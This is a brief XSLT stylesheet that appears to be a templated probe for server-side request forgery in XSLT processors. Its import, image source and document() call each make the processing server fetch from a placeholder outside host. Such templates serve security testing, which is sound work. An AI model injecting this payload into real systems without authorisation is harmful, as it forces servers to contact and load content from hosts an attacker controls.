<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:import href="{{http}}/xslt"/>
  <xsl:template match="/">
    <html xmlns="http://www.w3.org/1999/xhtml">
      <body>
        <img src="{{http}}/xslt"/>
        <xsl:copy-of select="document('{{http}}/xslt')"/>
      </body>
    </html>
  </xsl:template>
</xsl:stylesheet>
